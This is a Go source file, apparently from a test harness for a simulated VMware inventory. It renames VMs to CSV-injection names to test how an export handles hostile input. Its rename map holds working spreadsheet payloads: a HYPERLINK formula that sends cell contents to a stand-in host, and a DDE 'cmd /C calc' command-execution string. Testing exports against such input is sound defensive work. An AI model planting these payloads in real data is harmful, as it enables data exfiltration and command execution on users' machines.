package main

// -hostile-names renames some clean VMs of the planted estate to names a spreadsheet would run as
// formulas (the OWASP CSV-injection triggers =, +, -, @, TAB, CR) and to a name holding CR, LF, a
// quote and a comma, as anyone allowed to create a VM can. The renames happen before the expected
// inventory is computed, so the ready line's "expected" carries the hostile names.

import (
	"flag"
	"fmt"

	"github.com/vmware/govmomi/object"
)

var hostileNames = flag.Bool("hostile-names", false, "rename some VMs to CSV-injection and CSV-breaking names")

// hostileRenames maps a planted VM's name to its hostile one.
var hostileRenames = map[string]string{
	"web-01":     `=HYPERLINK("http://x/?"&A1,"open")`,
	"web-02":     `@SUM(1+1)*cmd|' /C calc'!A0`,
	"app-01":     "+x",
	"db-01":      "\tTAB-01",
	"centos-01":  "\rCR-01",
	"win2012-01": "line\nbreak, \"quoted\"\r\nend",
}

// renameHostile applies hostileRenames when -hostile-names is given.
func renameHostile(b *Builder) error {
	if !*hostileNames {
		return nil
	}
	done := 0
	for _, e := range sortedEntities("VirtualMachine") {
		to, ok := hostileRenames[e.Entity().Name]
		if !ok {
			continue
		}
		vm := object.NewVirtualMachine(b.c, e.Reference())
		if _, err := b.wait(vm.Rename(b.ctx, to)); err != nil {
			return fmt.Errorf("rename %s to %q: %v", e.Entity().Name, to, err)
		}
		done++
	}
	if done != len(hostileRenames) {
		return fmt.Errorf("-hostile-names renamed %d of %d VMs (is this the audit scenario?)", done, len(hostileRenames))
	}
	return nil
}
